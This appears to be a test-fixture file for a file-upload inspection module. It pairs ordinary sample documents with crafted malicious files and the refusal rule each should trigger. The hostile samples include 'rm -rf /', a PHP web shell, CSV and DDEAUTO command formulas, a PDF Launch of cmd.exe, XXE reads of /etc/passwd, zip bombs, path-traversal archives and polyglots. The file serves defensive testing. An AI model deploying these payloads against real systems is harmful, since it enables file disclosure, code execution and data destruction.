import { deflateSync } from 'node:zlib';
import iconv from 'iconv-lite';
import type { RefusalRule } from '../../src/modules/platform/inspection/index.js';
import { objectStream, pdfOf } from './crafted-pdf.js';
import { odsOf, officeOf, ofdOf, oleOf, relation } from './crafted-office.js';
import { zipAfter, zipOf } from './crafted-zip.js';

const pngChunk = (type: string, data: Buffer) => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, Buffer.from(type), data, Buffer.alloc(4)]);
};
const IEND = Buffer.from('0000000049454e44ae426082', 'hex');

/** A grey dot. */
export const PNG = Buffer.concat([
  Buffer.from('89504e470d0a1a0a', 'hex'),
  pngChunk('IHDR', Buffer.from('00000001000000010800000000', 'hex')),
  pngChunk('IDAT', deflateSync(Buffer.from([0, 0]))),
  IEND,
]);
const JPG = Buffer.concat([
  Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
  Buffer.alloc(64, 0x11),
  Buffer.from('ffd9', 'hex'),
]);
const GIF = Buffer.from('47494638396101000100800000000000ffffff21f90400000000002c00000000010001000002024401003b', 'hex');
const MP4 = Buffer.concat([Buffer.from('00000018667479706d703432000000006d70343269736f6d', 'hex'), Buffer.alloc(64)]);

const xls = (...records: [type: number, data: string][]) =>
  Buffer.concat(
    [[0x0809, '0006050000000000'] as const, ...records, [0x0a, ''] as const].map(([type, data]) => {
      const head = Buffer.alloc(4);
      const body = Buffer.from(data, 'hex');
      head.writeUInt16LE(type, 0);
      head.writeUInt16LE(body.length, 2);
      return Buffer.concat([head, body]);
    }),
  );
const fib = (flags: number) => {
  const head = Buffer.alloc(64);
  head.writeUInt16LE(0xa5ec, 0);
  head.writeUInt16LE(flags, 10);
  return head;
};

/** The stream of an old presentation with one embedded object, packed as PowerPoint does. */
const slidesWith = (object: Buffer) => {
  const packed = Buffer.concat([Buffer.alloc(4), deflateSync(object)]);
  const record = (head: number, type: number, length: number) => {
    const bytes = Buffer.alloc(8);
    bytes.writeUInt16LE(head, 0);
    bytes.writeUInt16LE(type, 2);
    bytes.writeUInt32LE(length, 4);
    return bytes;
  };
  const inner = Buffer.concat([record(0, 0x03e9, 40), Buffer.alloc(40), record(0x10, 0x1011, packed.length), packed]);
  return Buffer.concat([record(0x0f, 0x03e8, inner.length), inner]);
};

/** A file for the inspection: its name, its bytes. */
export type Crafted = [name: string, content: Buffer];

/** What departments send every day, with the format it is. */
export const GOOD: [format: string, ...Crafted][] = [
  ['pdf', '通知.pdf', pdfOf()],
  ['pdf', '新式.PDF', pdfOf({ objects: [objectStream('1 0 << /Type /Font >>')] })],
  ['docx', '通知.docx', officeOf('docx', { relations: relation('hyperlink', 'https://www.gov.cn/', true) })],
  ['xlsx', '统计.xlsx', officeOf('xlsx', { parts: [{ name: 'xl/printerSettings/printerSettings1.bin', content: Buffer.alloc(900, 7) }] })],
  ['pptx', '汇报.pptx', officeOf('pptx', { parts: [{ name: 'ppt/embeddings/chart.xlsx', content: officeOf('xlsx') }] })],
  ['doc', '旧文.doc', oleOf({ WordDocument: fib(0) })],
  ['wps', '旧文.wps', oleOf({ WordDocument: fib(0) })],
  ['xls', '旧表.xls', oleOf({ Workbook: xls([0x85, '000000000000036162']) })],
  ['et', '旧表.et', oleOf({ Workbook: xls() })],
  [
    'ppt',
    '旧片.ppt',
    oleOf({ 'PowerPoint Document': slidesWith(oleOf({ Workbook: Buffer.alloc(9000) })), 'Current User': Buffer.alloc(64) }),
  ],
  ['ofd', '公文.ofd', ofdOf()],
  ['ods', '站点.ods', odsOf({ parts: [{ name: 'Pictures/a.png', content: PNG }] })],
  ['parquet', '站点.parquet', Buffer.from('PAR1\0\0\0\0\0\0\0\0PAR1')],
  ['csv', '站点.csv', Buffer.from('站点,数值\n甲,1\n')],
  ['csv', '国标码.csv', iconv.encode('站点,数值\n甲,-1|2\n', 'gb18030')],
  ['tsv', '站点.tsv', Buffer.from('a\tb\n')],
  ['txt', '说明.txt', iconv.encode('\ufeff说明', 'utf16-le')],
  ['json', '数据.json', Buffer.from('{"a":1}')],
  ['geojson', '边界.geojson', Buffer.from('{"type":"FeatureCollection"}')],
  ['jsonl', '数据.ndjson', Buffer.from('{"a":1}\n{"a":2}\n')],
  ['xml', '数据.xml', Buffer.from('<?xml version="1.0" encoding="GB2312"?><rows/>')],
  ['html', '网页.html', Buffer.from('<!DOCTYPE html><p>文<script>1</script>')],
  [
    'zip',
    '附件.zip',
    zipOf({ name: '表/' }, { name: '表/甲.csv', content: 'a,b' }, { name: iconv.encode('乙.pdf', 'gbk'), flags: 0, content: pdfOf() }),
  ],
  [
    'zip',
    '地图.zip',
    zipOf({ name: 'a.shp', content: Buffer.from('0000270a00000000', 'hex') }, { name: 'a.dbf', content: Buffer.from('0300', 'hex') }),
  ],
  ['png', '图.png', PNG],
  ['jpg', '图.jpeg', JPG],
  ['gif', '图.gif', GIF],
  ['mp4', '片.mp4', MP4],
];

const DTD = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><a>&c;</a>';
const XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';
const nested = (depth: number): Buffer =>
  depth === 0 ? Buffer.from('a') : zipOf({ name: depth === 1 ? 'a.txt' : `${depth}.zip`, content: nested(depth - 1) });

/** What somebody might try, with the rule that refuses it. */
export const MALICIOUS: [what: string, rule: RefusalRule, ...Crafted][] = [
  ['an empty file', 'empty', '空.pdf', Buffer.alloc(0)],
  ['a program', 'executable', '工具.pdf', Buffer.concat([Buffer.from('MZ\x90\0\x03\0', 'latin1'), Buffer.alloc(200)])],
  ['a program of Linux', 'executable', '数据.csv', Buffer.concat([Buffer.from('\x7fELF\x02\x01', 'latin1'), Buffer.alloc(200)])],
  ['a script by name', 'executable', '说明.pdf.js', Buffer.from('WScript.Echo(1)')],
  ['a script by its first line', 'executable', '说明.txt', Buffer.from('#!/bin/sh\nrm -rf /\n')],
  ['a batch file as text', 'executable', '说明.txt', Buffer.from('@echo off\r\ndel *.*')],
  ['a page of a web server', 'executable', '网页.html', Buffer.from('<html><?php system($_GET["c"]); ?>')],
  [
    'a shortcut',
    'executable',
    '通知.docx',
    Buffer.concat([Buffer.from('4c0000000114020000000000c000000000000046', 'hex'), Buffer.alloc(80)]),
  ],
  ['a name that reads backwards', 'badName', '通知\u202efdp.exe', pdfOf()],
  ['a picture called PDF', 'contradiction', '通知.pdf', PNG],
  ['a page called a workbook', 'contradiction', '统计.xls', Buffer.from('<html><table></table></html>')],
  ['bytes called a table', 'contradiction', '统计.csv', Buffer.from(`a,b\n${'1,2\n'.repeat(20_000)}\0\0\0`)],
  ['SVG', 'notAccepted', '图.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['RTF called DOC', 'notAccepted', '通知.doc', Buffer.from('{\\rtf1 a}')],
  ['RAR', 'notAccepted', '附件.rar', Buffer.concat([Buffer.from('Rar!\x1a\x07\x00', 'latin1'), Buffer.alloc(64)])],
  ['a table that starts a program', 'commandFormula', '统计.csv', Buffer.from('名称,值\n甲,"=cmd|\'/c calc\'!A1"\n')],
  ['a zip bomb', 'zipBomb', '附件.zip', zipOf({ name: 'a.txt', content: Buffer.alloc(60 * 1024 * 1024) })],
  [
    'a zip bomb that lies about its size',
    'zipBomb',
    '附件.zip',
    zipOf({ name: 'a.txt', content: Buffer.alloc(60 * 1024 * 1024), declared: 1000 }),
  ],
  [
    'a zip bomb in harmless parts',
    'zipBomb',
    '附件.zip',
    zipOf(...['a.zip', 'b.zip'].map((name) => ({ name, content: zipOf({ name: 'a.txt', content: Buffer.alloc(45 * 1024 * 1024, 'a') }) }))),
  ],
  [
    'a zip bomb of overlapping members',
    'zipBomb',
    '附件.zip',
    zipOf({ name: 'a.txt', content: 'a'.repeat(9000) }, { name: 'b.txt', content: 'a'.repeat(9000), overlaps: true }),
  ],
  ['a zip of too many files', 'zipEntries', '附件.zip', zipOf(...Array.from({ length: 10_001 }, (_, index) => ({ name: `${index}.txt` })))],
  ['zips in zips in zips', 'zipNesting', '附件.zip', nested(4)],
  ['a path out of the folder', 'zipPath', '附件.zip', zipOf({ name: '../../etc/cron.d/a.txt', content: 'a' })],
  ['a path out of the folder, the Windows way', 'zipPath', '附件.zip', zipOf({ name: '..\\a.txt', content: 'a' })],
  ['an absolute path', 'zipPath', '附件.zip', zipOf({ name: 'C:\\Windows\\a.txt', content: 'a' })],
  ['a name that stands twice', 'zipDuplicate', '附件.zip', zipOf({ name: 'a.txt', content: 'a' }, { name: 'A.TXT', content: 'b' })],
  ['a symbolic link', 'zipLink', '附件.zip', zipOf({ name: 'a.txt', content: '/etc/passwd', mode: 0o120777 })],
  ['a zip with a password', 'encrypted', '附件.zip', zipOf({ name: 'a.txt', content: 'a', flags: 0x801 })],
  ['two names for one member', 'polyglot', '附件.zip', zipOf({ name: 'a.txt', content: 'a', localName: 'a.exe' })],
  ['a method nobody reads', 'zipMethod', '附件.zip', zipOf({ name: 'a.txt', content: 'a', method: 99 })],
  ['a program in a zip', 'executable', '附件.zip', zipOf({ name: '表/a.csv', content: 'MZ\x90\0' })],
  ['a program behind a zip header', 'polyglot', '附件.zip', zipAfter(Buffer.from('PK\x03\x04junk'), { name: 'a.txt', content: 'a' })],
  [
    'a document with macros',
    'macro',
    '通知.docx',
    officeOf('docx', { parts: [{ name: 'word/vbaProject.bin', content: oleOf({ VBA: Buffer.alloc(8) }) }] }),
  ],
  [
    'macros under another name',
    'macro',
    '通知.docx',
    officeOf('docx', { types: '<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>' }),
  ],
  ['macros by extension', 'macro', '通知.docm', officeOf('docx')],
  ['an old document with macros', 'macro', '通知.doc', oleOf({ WordDocument: fib(0), _VBA_PROJECT: Buffer.alloc(8) })],
  [
    'an old presentation with macros',
    'macro',
    '旧片.ppt',
    oleOf({ 'PowerPoint Document': slidesWith(oleOf({ _VBA_PROJECT: Buffer.alloc(8) })) }),
  ],
  [
    'an old presentation with a program in it',
    'activeContent',
    '旧片.ppt',
    oleOf({ 'PowerPoint Document': slidesWith(oleOf({ '\x01Ole10Native': Buffer.alloc(8) })) }),
  ],
  ['a spreadsheet with macros', 'macro', '站点.ods', odsOf({ parts: [{ name: 'Basic/Standard/Module1.xml', content: '<a/>' }] })],
  ['a spreadsheet that runs when opened', 'macro', '站点.ods', odsOf({ markup: '<script:event-listener script:event-name="dom:load"/>' })],
  [
    'a spreadsheet that asks a program',
    'commandFormula',
    '站点.ods',
    odsOf({ markup: '<office:dde-source office:dde-application="cmd"/>' }),
  ],
  [
    'a spreadsheet with a picture from elsewhere',
    'externalTemplate',
    '站点.ods',
    odsOf({ markup: '<draw:image xlink:href="http://a.example/"/>' }),
  ],
  ['a spreadsheet with a password', 'encrypted', '站点.ods', odsOf({ manifest: '<manifest:encryption-data/>' })],
  [
    'a spreadsheet with entities',
    'doctype',
    '站点.ods',
    odsOf({ parts: [{ name: 'styles.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }] }),
  ],
  ['a text of OpenDocument', 'notAccepted', '通知.odt', odsOf({ type: 'text' })],
  [
    'a spreadsheet with an old object in it',
    'activeContent',
    '站点.ods',
    odsOf({ parts: [{ name: 'Object 1', content: oleOf({ '\x01Ole10Native': Buffer.alloc(8) }) }] }),
  ],
  ['half of a Parquet', 'damaged', '站点.parquet', Buffer.from('PAR1\0\0\0\0\0\0\0\0\0\0')],
  ['an encrypted Parquet', 'encrypted', '站点.parquet', Buffer.from('PARE\0\0\0\0\0\0\0\0PARE')],
  ['a Parquet called a table', 'contradiction', '站点.csv', Buffer.from('PAR1\0\0\0\0\0\0\0\0PAR1')],
  ['an old workbook with a macro sheet', 'macro', '统计.xls', oleOf({ Workbook: xls([0x85, '000000000001036162']) })],
  [
    'a template from elsewhere',
    'externalTemplate',
    '通知.docx',
    officeOf('docx', { relations: relation('attachedTemplate', 'http://a.example/t.dotm', true) }),
  ],
  [
    'a template from elsewhere, spelt in entities',
    'externalTemplate',
    '通知.docx',
    officeOf('docx', { relations: relation('attached&#84;emplate', 'http://a.example/t', true).replace('External', '&#69;xternal') }),
  ],
  ['an embedded object', 'activeContent', '通知.docx', officeOf('docx', { relations: relation('oleObject', 'embeddings/a.bin') })],
  ['an ActiveX control', 'activeContent', '统计.xlsx', officeOf('xlsx', { parts: [{ name: 'xl/activeX/activeX1.xml', content: '<a/>' }] })],
  [
    'a macro document inside a presentation',
    'macro',
    '汇报.pptx',
    officeOf('pptx', {
      parts: [{ name: 'ppt/embeddings/a.docx', content: officeOf('docx', { parts: [{ name: 'word/vbaProject.bin' }] }) }],
    }),
  ],
  [
    'a field that starts a program',
    'commandFormula',
    '通知.docx',
    officeOf('docx', { main: '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k"</w:instrText>' }),
  ],
  ['a document with a password', 'encrypted', '通知.docx', oleOf({ EncryptedPackage: Buffer.alloc(8), EncryptionInfo: Buffer.alloc(8) })],
  ['an old document with a password', 'encrypted', '通知.doc', oleOf({ WordDocument: fib(0x100) })],
  ['an old workbook with a password', 'encrypted', '统计.xls', oleOf({ Workbook: xls([0x2f, '0100']) })],
  ['a billion laughs in a document', 'doctype', '通知.docx', officeOf('docx', { main: DTD })],
  ['an entity from a file in OFD', 'doctype', '公文.ofd', ofdOf({ name: 'Doc_0/Pages/Page_0/Content.xml', content: XXE })],
  ['an entity in UTF-16', 'doctype', '公文.ofd', ofdOf({ name: 'a.xml', content: Buffer.from(`\ufeff${XXE}`, 'utf16le') })],
  ['an entity in plain XML', 'doctype', '数据.xml', Buffer.from(XXE)],
  ['a PDF with JavaScript', 'pdfAction', '通知.pdf', pdfOf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' })],
  ['a PDF with JavaScript, escaped', 'pdfAction', '通知.pdf', pdfOf({ catalog: '/OpenAction << /S /J#61vaScript /JS 9 0 R >>' })],
  ['a PDF with JavaScript, compressed', 'pdfAction', '通知.pdf', pdfOf({ objects: [objectStream('4 0 << /S /JavaScript /JS (a) >>')] })],
  [
    'a PDF with JavaScript behind a pretended stream',
    'pdfAction',
    '通知.pdf',
    pdfOf({ objects: ['% stream\n', objectStream('4 0 << /S /JavaScript >>')] }),
  ],
  ['a PDF that starts a program', 'pdfAction', '通知.pdf', pdfOf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  ['a PDF with another file in it', 'pdfEmbedded', '通知.pdf', pdfOf({ catalog: '/Names << /EmbeddedFiles 5 0 R >>' })],
  ['a PDF with a password', 'encrypted', '通知.pdf', pdfOf({ trailer: '/Encrypt 5 0 R' })],
  ['a PDF that begins later', 'polyglot', '通知.pdf', Buffer.concat([Buffer.from('GIF89a/*'), pdfOf()])],
  ['a picture that is a PDF too', 'polyglot', '图.gif', Buffer.concat([GIF.subarray(0, 13), pdfOf(), Buffer.from(';')])],
  ['an archive behind a PDF', 'polyglot', '通知.pdf', Buffer.concat([pdfOf(), zipOf({ name: 'a.txt', content: 'a' })])],
  ['an archive behind a picture', 'polyglot', '图.png', Buffer.concat([PNG, zipOf({ name: 'a.txt', content: 'a' })])],
  ['an archive behind a photograph', 'polyglot', '图.jpg', Buffer.concat([JPG, zipOf({ name: 'a.class', content: 'a' })])],
  [
    'a page hidden in a picture',
    'polyglot',
    '图.png',
    Buffer.concat([PNG.subarray(0, -12), pngChunk('tEXt', Buffer.from('Comment\0<script>alert(1)</script>')), IEND]),
  ],
  ['something behind the end of a picture', 'polyglot', '图.png', Buffer.concat([PNG, Buffer.from('secret')])],
  ['half a PDF', 'damaged', '通知.pdf', pdfOf().subarray(0, -20)],
];
